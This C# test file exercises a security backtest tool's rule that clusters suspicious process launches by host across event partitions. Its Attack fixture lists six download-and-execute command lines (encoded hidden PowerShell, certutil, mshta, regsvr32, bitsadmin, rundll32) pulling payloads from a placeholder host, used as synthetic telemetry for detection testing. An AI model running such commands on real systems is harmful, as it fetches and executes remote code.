using System.Text;
using System.Text.Json;
using Changeling.TestSupport;

namespace Changeling.Cli.Tests.Backtest;

/// <summary>The rules on clusters in a backtest: an attack whose launches lie in the messages of many hosts, on different event partitions.</summary>
public sealed class ClusterTests : IDisposable
{
    private const string Chain = "made/cluster";
    private const string ByHost = "suspicious-cluster-by-host";
    private static readonly DateTimeOffset Begin = new(2026, 11, 2, 6, 0, 0, TimeSpan.Zero);

    private static readonly (string Child, string CommandLine)[] Attack =
    [
        ("powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        ("certutil.exe", @"certutil -urlcache -split -f http://192.0.2.7/a.txt C:\Users\Public\a.exe"),
        ("mshta.exe", "mshta http://192.0.2.7/a.hta"),
        ("regsvr32.exe", "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"),
        ("bitsadmin.exe", @"bitsadmin /transfer a /download /priority high http://192.0.2.7/a.exe C:\Users\Public\b.exe"),
        ("rundll32.exe", @"rundll32 javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://192.0.2.7/a.sct"")"),
    ];

    private readonly Scratch _folder = new();

    public ClusterTests()
    {
        _folder.Write("events.jsonl", Events());
        _folder.Write("truth.jsonl", Encoding.UTF8.GetBytes(string.Join('\n', Attack.Select((_, i) => JsonSerializer.Serialize(
            new { time = AttackAt(i), chain = Chain, identity = $"sysmon-1|ws-bad|{GuidOf(i)}", label = 1 })))));
    }

    [Fact]
    public async Task Malicious_launches_of_one_host_on_many_partitions_are_one_cluster_that_finds_their_attack()
    {
        var report = await BacktestAsync("--partitions", "8");

        var alert = Assert.Single(report.GetProperty("detections").EnumerateArray(), d => d.GetProperty("rule").GetString() == ByHost);
        var cluster = alert.GetProperty("cluster");
        Assert.Equal(("host", "ws-bad", Attack.Length), (cluster.GetProperty("by").GetString(), cluster.GetProperty("entity").GetString(), cluster.GetProperty("launches").GetInt32()));
        Assert.Equal("ws-bad", alert.GetProperty("host").GetString());
        Assert.Equal([Chain], cluster.GetProperty("chains").EnumerateArray().Select(c => c.GetString()));
        Assert.Equal(1, report.GetProperty("attacks_found").GetInt32());
        var rule = Assert.Single(report.GetProperty("by_rule").EnumerateArray(), r => r.GetProperty("rule").GetString() == ByHost);
        Assert.Equal((1, 0, 1), (rule.GetProperty("true_alerts").GetInt32(), rule.GetProperty("false_alerts").GetInt32(), rule.GetProperty("chains_found").GetInt32()));
        Assert.Contains(File.ReadLines(_folder["detections.jsonl"]), line => line.Contains(alert.GetProperty("uid").GetString()!, StringComparison.Ordinal));
    }

    [Fact]
    public async Task One_partition_and_many_give_the_same_clusters()
    {
        var (one, many) = (await BacktestAsync("--partitions", "1"), await BacktestAsync("--partitions", "32"));

        Assert.NotEmpty(Clusters(one));
        Assert.Equal(Clusters(one), Clusters(many));
    }

    [Fact]
    public async Task A_cluster_without_a_step_of_an_attack_is_a_false_alert()
    {
        _folder.Write("truth.jsonl", Encoding.UTF8.GetBytes(JsonSerializer.Serialize(new { time = Begin, chain = "made/elsewhere", identity = "sysmon-1|ws-none|none", label = 1 })));

        var report = await BacktestAsync();

        var rule = Assert.Single(report.GetProperty("by_rule").EnumerateArray(), r => r.GetProperty("rule").GetString() == ByHost);
        Assert.Equal((0, 1, 0), (rule.GetProperty("true_alerts").GetInt32(), rule.GetProperty("false_alerts").GetInt32(), rule.GetProperty("chains_found").GetInt32()));
        Assert.Equal(0, report.GetProperty("attacks_found").GetInt32());
        Assert.Equal(
            report.GetProperty("alerts").GetInt32(),
            report.GetProperty("days").EnumerateArray().Sum(day => day.GetProperty("false_alerts").GetInt32()));
    }

    [Fact]
    public async Task While_the_deployment_learns_a_cluster_is_a_note()
    {
        var report = await BacktestAsync("--emit-after", "24");

        Assert.Empty(Clusters(report));
        Assert.Contains(File.ReadLines(_folder["detections.jsonl"]), line => line.Contains(ByHost, StringComparison.Ordinal));
    }

    public void Dispose() => _folder.Dispose();

    private async Task<JsonElement> BacktestAsync(params string[] more)
    {
        string[] usual = more.Contains("--emit-after") ? [] : ["--emit-after", "1"];
        (await Terminal.RunAsync(
            _folder, ["backtest", "events.jsonl", "--truth", "truth.jsonl", "--json", "report.json", "--output", "detections.jsonl", .. usual, .. more])).Succeeded();
        return JsonDocument.Parse(_folder.Read("report.json")).RootElement;
    }

    private static List<string> Clusters(JsonElement report) =>
        [.. report.GetProperty("detections").EnumerateArray().Where(d => d.GetProperty("cluster").ValueKind == JsonValueKind.Object).Select(d => d.GetRawText())];

    /// <summary>Eight hosts at work for three hours; after half of it, six messages of theirs each hold a launch of another host besides.</summary>
    private static byte[] Events()
    {
        var lines = new List<(DateTimeOffset Time, byte[] Body)>();
        for (var minute = 0; minute < 180; minute++)
        {
            for (var host = 0; host < 8; host++)
            {
                var at = Begin.AddMinutes(minute).AddSeconds(host);
                lines.Add((at, Usual(host, at)));
            }
        }

        for (var i = 0; i < Attack.Length; i++)
        {
            var bad = Telemetry.Record("explorer.exe", Attack[i].Child, Attack[i].CommandLine, AttackAt(i), GuidOf(i), "WS-BAD");
            lines.Add((AttackAt(i), Telemetry.Many(Usual(i, AttackAt(i)), bad)));
        }

        return [.. "["u8, .. lines.OrderBy(l => l.Time).SelectMany((l, i) => i == 0 ? l.Body : [(byte)',', .. l.Body]), (byte)']'];
    }

    private static byte[] Usual(int host, DateTimeOffset at) => Telemetry.Record("services.exe", "svchost.exe", "svchost -k netsvcs", at, $"{{00000000-0000-0000-{host:d4}-{at.ToUnixTimeSeconds():d12}}}", $"ws-{host}");

    private static DateTimeOffset AttackAt(int step) => Begin.AddMinutes(91).AddSeconds((20 * step) + 0.5);

    private static string GuidOf(int step) => $"{{8d3f21b6-0000-0000-0000-00000000000{step}}}";
}
